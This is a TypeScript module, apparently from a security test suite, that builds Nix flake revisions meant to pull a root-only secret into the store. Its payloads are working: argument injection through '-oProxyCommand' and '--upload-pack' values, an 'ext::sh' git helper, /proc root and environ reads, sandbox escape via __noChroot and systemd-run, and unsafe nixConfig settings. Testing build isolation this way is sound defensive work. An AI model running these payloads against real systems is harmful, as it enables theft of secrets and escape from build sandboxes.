/**
 * Revisions that try to bring a file which only root reads into the store.
 *
 * @module
 */

/** The place in the host of the secrets of one revision. */
export interface Prey {
  /** A folder. */
  folder: string;
  /** A file in it, with the secret. */
  file: string;
  /** A tarball of that file. */
  tarball: string;
  /** A Git repository with that file, and its revision. */
  repository: string;
  revision: string;
  /** Where a server has a repository with that one as its submodule `part`. */
  carrier: string;
  /** The revision of that repository. */
  carried: string;
}

/** One revision. */
export interface Attack {
  /** A Nix expression that becomes an attribute of the system. */
  code?: string;
  /** The inputs of the flake, in Nix. */
  inputs?: string;
  /** What the lock file says of the input `prey`; no lock file without it. */
  locked?: Record<string, unknown>;
  /** Links of the revision, by their path. */
  links?: Readonly<Record<string, string>>;
  /** More attributes of the flake, in Nix. */
  flake?: string;
  /** A submodule of the revision, at `part`. */
  submodule?: { url: string; revision: string };
}

/** The port of the server that redirects to files. */
export const redirectPort = 18_765;

const wrong = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
const zeros = "0000000000000000000000000000000000000000000000000000";

const input = (url: string, isFlake = false) =>
  `prey = { url = "${url}"; flake = ${isFlake}; };`;
const used = '"${inputs.prey}"';
const readIn = "builtins.readFile";

const drv = (attributes: string) =>
  `"\${derivation { name = "prey"; system = builtins.currentSystem or SYSTEM; ${attributes} }}"`;
const sh = (script: string) =>
  `builder = "/bin/sh"; args = [ "-c" "${script}" ];`;

/** The flake reads what a submodule has. */
const submodule = (url: string, revision: string): Attack => ({
  submodule: { url, revision },
  code: `${readIn} ./part/secret`,
});

/** Every way that is known to ask the evaluator or a builder for a file. */
export const attacks: Readonly<Record<string, (prey: Prey) => Attack>> = {
  // Inputs of the lock file.
  "input path, wrong hash": ({ folder }) => ({
    inputs: input(`path:${folder}`),
    locked: { type: "path", path: folder, narHash: wrong, lastModified: 1 },
    code: used,
  }),
  "input path, no hash": ({ folder }) => ({
    inputs: input(`path:${folder}`),
    locked: { type: "path", path: folder },
    code: used,
  }),
  "input path, not in the lock": ({ folder }) => ({
    inputs: input(`path:${folder}`),
    code: used,
  }),
  "input path that is a flake, not in the lock": ({ folder }) => ({
    inputs: input(`path:${folder}`, true),
    code: used,
  }),
  "input path that climbs": ({ folder }) => ({
    inputs: input(`path:../../..${folder}`),
    locked: { type: "path", path: `../../..${folder}`, narHash: wrong },
    code: used,
  }),
  "input file, wrong hash": ({ file }) => ({
    inputs: input(`file+file://${file}`),
    locked: { type: "file", url: `file://${file}`, narHash: wrong },
    code: used,
  }),
  "input file, not in the lock": ({ file }) => ({
    inputs: input(`file+file://${file}`),
    code: used,
  }),
  "input tarball, wrong hash": ({ tarball }) => ({
    inputs: input(`tarball+file://${tarball}`),
    locked: { type: "tarball", url: `file://${tarball}`, narHash: wrong },
    code: used,
  }),
  "input tarball, not in the lock": ({ tarball }) => ({
    inputs: input(`tarball+file://${tarball}`),
    code: used,
  }),
  "input repository of the host": ({ repository, revision }) => ({
    inputs: input(`git+file://${repository}?rev=${revision}`),
    locked: { type: "git", url: `file://${repository}`, rev: revision },
    code: used,
  }),
  "input repository, wrong hash": ({ repository, revision }) => ({
    inputs: input(`git+file://${repository}?rev=${revision}`),
    locked: {
      type: "git",
      url: `file://${repository}`,
      rev: revision,
      narHash: wrong,
      lastModified: 1,
    },
    code: used,
  }),
  "input repository, not in the lock": ({ repository }) => ({
    inputs: input(`git+file://${repository}`),
    code: used,
  }),
  "input that another server redirects to a file": ({ file }) => ({
    inputs: input(`file+http://127.0.0.1:${redirectPort}${file}`),
    locked: {
      type: "file",
      url: `http://127.0.0.1:${redirectPort}${file}`,
      narHash: wrong,
    },
    code: used,
  }),
  "input repository that is redirected to the host": (
    { repository, revision },
  ) => ({
    inputs: input(
      `git+http://127.0.0.1:${redirectPort}${repository}?rev=${revision}`,
    ),
    locked: {
      type: "git",
      url: `http://127.0.0.1:${redirectPort}${repository}`,
      rev: revision,
      narHash: wrong,
    },
    code: used,
  }),
  "input over ssh whose host is an option": ({ file }) => ({
    inputs: input(`git+ssh://-oProxyCommand=cp%20${file}%20/tmp/x/y`),
    locked: {
      type: "git",
      url: `ssh://-oProxyCommand=cp ${file} /tmp/x/y`,
      rev: "1".repeat(40),
      narHash: wrong,
    },
    code: used,
  }),
  "input hg of the host": ({ folder }) => ({
    inputs: input(`hg+file://${folder}`),
    locked: { type: "hg", url: `file://${folder}`, rev: "1".repeat(40) },
    code: used,
  }),
  "input with a submodule of the host": ({ carrier, carried }) => ({
    inputs: input(`git+${carrier}?rev=${carried}&submodules=1&shallow=0`),
    locked: {
      type: "git",
      url: carrier,
      rev: carried,
      narHash: wrong,
      lastModified: 1,
      submodules: true,
      // Else Nix asks for less than the simple server can give.
      shallow: false,
    },
    code: `${readIn} "\${inputs.prey}/part/secret"`,
  }),
  "input whose ref is an option": ({ carrier, carried, file }) => ({
    inputs: input(`git+${carrier}?rev=${carried}`),
    locked: {
      type: "git",
      url: carrier,
      rev: carried,
      ref: `--upload-pack=cat ${file} >&2;`,
      narHash: wrong,
    },
    code: used,
  }),
  "input path of the folder above": ({ folder }) => ({
    inputs: input(`path:./up${folder}`),
    locked: { type: "path", path: `./up${folder}`, narHash: wrong },
    links: { up: "/" },
    code: used,
  }),
  // Submodules of the revision.
  "submodule of the host": ({ repository, revision }) =>
    submodule(`file://${repository}`, revision),
  "submodule of the host, as a path": ({ repository, revision }) =>
    submodule(repository, revision),
  "submodule of the host, without a work tree": ({ repository, revision }) =>
    submodule(`file://${repository}/.git`, revision),
  "submodule that climbs": ({ repository, revision }) =>
    submodule(`../../../../..${repository}`, revision),
  "submodule that is redirected to the host": ({ repository, revision }) =>
    submodule(`http://127.0.0.1:${redirectPort}${repository}`, revision),
  "submodule through the kernel": ({ repository, revision }) =>
    submodule(`file:///proc/self/root${repository}`, revision),
  "submodule of a submodule": ({ carrier, carried }) => ({
    submodule: { url: carrier, revision: carried },
    code: `${readIn} ./part/part/secret`,
  }),
  // Links.
  "lock file that is a link": ({ file }) => ({
    links: { "flake.lock": file },
    code: `${readIn} ./flake.lock`,
  }),
  "flake.nix that is a link": ({ file }) => ({ links: { "flake.nix": file } }),
  "a link that is read": ({ file }) => ({
    links: { link: file },
    code: `${readIn} ./link`,
  }),
  "a link that is imported": ({ file }) => ({
    links: { link: file },
    code: "import ./link",
  }),
  "a link to a folder": ({ folder }) => ({
    links: { link: folder },
    code: `${readIn} ./link/secret`,
  }),
  "a link that is copied by a hash": ({ file }) => ({
    links: { link: file },
    code: `builtins.path { path = ./link; sha256 = "${zeros}"; }`,
  }),
  "a link that is a source": ({ folder }) => ({
    links: { link: folder },
    code: "builtins.filterSource (_: _: true) ./link",
  }),
  // Fetchers in the code.
  "fetchTree path, wrong hash": ({ folder }) => ({
    code:
      `(builtins.fetchTree { type = "path"; path = "${folder}"; narHash = "${wrong}"; }).outPath`,
  }),
  "fetchTree path, no hash": ({ folder }) => ({
    code: `(builtins.fetchTree { type = "path"; path = "${folder}"; }).outPath`,
  }),
  "fetchTree path as a URL": ({ folder }) => ({
    code: `(builtins.fetchTree "path:${folder}?narHash=${wrong}").outPath`,
  }),
  "fetchTree file": ({ file }) => ({
    code:
      `(builtins.fetchTree { type = "file"; url = "file://${file}"; narHash = "${wrong}"; }).outPath`,
  }),
  "fetchTree tarball": ({ tarball }) => ({
    code:
      `(builtins.fetchTree { type = "tarball"; url = "file://${tarball}"; narHash = "${wrong}"; }).outPath`,
  }),
  "fetchTree git": ({ repository, revision }) => ({
    code:
      `(builtins.fetchTree { type = "git"; url = "file://${repository}"; rev = "${revision}"; }).outPath`,
  }),
  "fetchGit URL": ({ repository, revision }) => ({
    code:
      `(builtins.fetchGit { url = "file://${repository}"; rev = "${revision}"; }).outPath`,
  }),
  "fetchGit path": ({ repository, revision }) => ({
    code:
      `(builtins.fetchGit { url = "${repository}"; rev = "${revision}"; allRefs = true; }).outPath`,
  }),
  "fetchGit with a helper": ({ file }) => ({
    code: `(builtins.fetchGit { url = "ext::sh -c cat% ${file}"; rev = "${
      "1".repeat(40)
    }"; }).outPath`,
  }),
  "fetchGit over ssh whose host is an option": ({ file }) => ({
    code:
      `(builtins.fetchGit { url = "ssh://-oProxyCommand=cat ${file} >&2/x"; rev = "${
        "1".repeat(40)
      }"; }).outPath`,
  }),
  "fetchMercurial": ({ folder }) => ({
    code: `(builtins.fetchMercurial { url = "file://${folder}"; rev = "${
      "1".repeat(40)
    }"; }).outPath`,
  }),
  "fetchurl": ({ file }) => ({
    code: `builtins.fetchurl { url = "file://${file}"; sha256 = "${zeros}"; }`,
  }),
  "fetchurl, no hash": ({ file }) => ({
    code: `builtins.fetchurl "file://${file}"`,
  }),
  "fetchurl that is redirected": ({ file }) => ({
    code:
      `builtins.fetchurl { url = "http://127.0.0.1:${redirectPort}${file}"; sha256 = "${zeros}"; }`,
  }),
  "fetchTarball": ({ tarball }) => ({
    code:
      `builtins.fetchTarball { url = "file://${tarball}"; sha256 = "${zeros}"; }`,
  }),
  "fetchClosure from a file": ({ folder }) => ({
    code:
      `builtins.fetchClosure { fromStore = "file://${folder}"; fromPath = /nix/store/${
        "a".repeat(32)
      }-x; }`,
  }),
  "fetchGit with submodules": ({ carrier, carried }) => ({
    code:
      `${readIn} "\${builtins.fetchGit { url = "${carrier}"; rev = "${carried}"; submodules = true; }}/part/secret"`,
  }),
  "fetchTree with submodules": ({ carrier, carried }) => ({
    code:
      `(builtins.fetchTree { type = "git"; url = "${carrier}"; rev = "${carried}"; submodules = true; shallow = false; }).outPath`,
  }),
  "fetchTree through the kernel": ({ folder }) => ({
    code:
      `(builtins.fetchTree "path:/proc/self/root${folder}?narHash=${wrong}").outPath`,
  }),
  "getFlake path": ({ folder }) => ({
    code: `(builtins.getFlake "path:${folder}?narHash=${wrong}").outPath`,
  }),
  "getFlake repository": ({ repository, revision }) => ({
    code:
      `(builtins.getFlake "git+file://${repository}?rev=${revision}").outPath`,
  }),
  // Paths in the code.
  "path, wrong hash": ({ file }) => ({
    code: `builtins.path { path = "${file}"; sha256 = "${zeros}"; }`,
  }),
  "path of a folder, wrong hash": ({ folder }) => ({
    code:
      `builtins.path { path = "${folder}"; name = "x"; sha256 = "${zeros}"; filter = _: _: true; }`,
  }),
  "path that is read": ({ file }) => ({ code: `${readIn} ${file}` }),
  "path that is read as text": ({ file }) => ({ code: `${readIn} "${file}"` }),
  "path that is imported": ({ file }) => ({ code: `import ${file}` }),
  "path that is copied": ({ file }) => ({ code: `"\${${file}}"` }),
  "path that is parsed": ({ file }) => ({
    code: `builtins.toJSON (builtins.fromTOML (${readIn} ${file}))`,
  }),
  "path of a search path": ({ folder }) => ({
    code:
      `${readIn} (builtins.findFile [ { prefix = "x"; path = "${folder}"; } ] "x/secret")`,
  }),
  "path that is climbed to": ({ folder }) => ({
    code:
      `builtins.path { path = ./. + "/../../..${folder}"; name = "x"; sha256 = "${zeros}"; }`,
  }),
  "path of code that is made": ({ file }) => ({
    code: `import (builtins.toFile "x.nix" "${readIn} ${file}")`,
  }),
  "path that is called one of the store": ({ file }) => ({
    code: `${readIn} (builtins.storePath "${file}")`,
  }),
  // What the kernel tells.
  "the environment of the evaluator": () => ({
    code: `${readIn} "/proc/self/environ"`,
  }),
  "the root of process 1": ({ folder }) => ({
    code:
      `(builtins.fetchTree { type = "path"; path = "/proc/1/root${folder}"; narHash = "${wrong}"; }).outPath`,
  }),
  "the root of the parent": ({ file }) => ({
    code:
      `builtins.fetchurl { url = "file:///proc/self/root${file}"; sha256 = "${zeros}"; }`,
  }),
  // Builders.
  "a builder that reads": ({ file }) => ({
    code: drv(sh(`/bin/cat ${file} > $out`)),
  }),
  "a builder that reads while evaluating": ({ file }) => ({
    code: `${readIn} ${drv(sh(`/bin/cat ${file} > $out`))}`,
  }),
  "a fixed output that reads": ({ file }) => ({
    code: drv(
      `${
        sh(`/bin/cat ${file} > $out`)
      } outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "${zeros}";`,
    ),
  }),
  "a builder without a sandbox": ({ file }) => ({
    code: drv(`${sh(`/bin/cat ${file} > $out`)} __noChroot = true;`),
  }),
  "a builder through process 1": ({ file }) => ({
    code: drv(sh(`/bin/cat /proc/1/root${file} > $out`)),
  }),
  "the builder fetchurl of Nix": ({ file }) => ({
    code:
      `"\${derivation { name = "prey"; system = "builtin"; builder = "builtin:fetchurl"; url = "file://${file}"; urls = [ "file://${file}" ]; outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "${zeros}"; preferLocalBuild = true; }}"`,
  }),
  "the builder fetchurl of Nix while evaluating": ({ file }) => ({
    code:
      `${readIn} "\${derivation { name = "prey"; system = "builtin"; builder = "builtin:fetchurl"; url = "file://${file}"; urls = [ "file://${file}" ]; outputHashAlgo = "sha256"; outputHashMode = "flat"; outputHash = "${zeros}"; }}"`,
  }),
  "the builder unpack-channel of Nix": ({ tarball }) => ({
    code:
      `"\${derivation { name = "prey"; system = "builtin"; builder = "builtin:unpack-channel"; src = "${tarball}"; channelName = "x"; }}"`,
  }),
  "the builder buildenv of Nix": ({ folder }) => ({
    code:
      `${readIn} "\${derivation { name = "prey"; system = "builtin"; builder = "builtin:buildenv"; derivations = "true 5 1 ${folder}"; manifest = "${folder}/secret"; }}/manifest.nix"`,
  }),
  "an output that is a link": ({ file }) => ({
    code: `${readIn} ${drv(sh(`/bin/ln -s ${file} $out`))}`,
  }),
  "an output with a link in it": ({ folder }) => ({
    code: `builtins.path { name = "x"; path = ${
      drv(sh(`/bin/ln -s ${folder} $out`))
    } + "/secret"; }`,
  }),
  "references of a file of the host": ({ file }) => ({
    code: drv(
      `${sh("/bin/cat x > $out")} exportReferencesGraph = [ "x" "${file}" ];`,
    ),
  }),
  "a builder that asks for the power of systemd": ({ file }) => ({
    code: drv(
      sh(
        `/usr/bin/systemd-run --wait --pipe /bin/cat ${file} > $out 2>&1; true`,
      ),
    ),
  }),
  "a builder that reads what others have open": () => ({
    code: drv(
      sh(
        "/bin/cat /proc/[0-9]*/environ /proc/[0-9]*/fd/[3-9] /proc/[0-9]*/cwd/secret > $out 2>/dev/null </dev/null & /bin/sleep 1; true",
      ),
    ),
  }),
  // Settings of the flake.
  "settings that make it impure": ({ file }) => ({
    flake: "nixConfig.pure-eval = false; nixConfig.restrict-eval = false;",
    code: `${readIn} ${file}`,
  }),
  "settings that run a program": ({ file }) => ({
    flake:
      `nixConfig.allow-unsafe-native-code-during-evaluation = true; nixConfig.post-build-hook = "${file}"; nixConfig.plugin-files = "${file}";`,
    code: `builtins.exec [ "cat" "${file}" ]`,
  }),
};

/** The files of the revision of an attack, and its links. */
export function filesOf(
  { code = '""', inputs = "", locked, flake = "" }: Attack,
  system: string,
): Record<string, string> {
  const lock = {
    nodes: {
      prey: {
        flake: false,
        locked,
        original: originalOf(locked),
      },
      root: { inputs: { prey: "prey" } },
    },
    root: "root",
    version: 7,
  };
  return {
    "flake.nix": `{
  inputs = { ${inputs} };
  ${flake}
  outputs = inputs: {
    nixosConfigurations.demo.config.system.build.toplevel = derivation {
      name = "system";
      system = "${system}";
      builder = "/bin/sh";
      args = [ "-c" "echo done > $out" ];
      prey = ${
      code.replaceAll("builtins.currentSystem or SYSTEM", `"${system}"`)
    };
    };
  };
}
`,
    ...locked ? { "flake.lock": `${JSON.stringify(lock, null, 2)}\n` } : {},
  };
}

/** What flake.nix says, without what a lock adds. */
function originalOf(locked: Attack["locked"]): Record<string, unknown> {
  const { narHash: _, lastModified: __, ...original } = locked ?? {};
  return original;
}
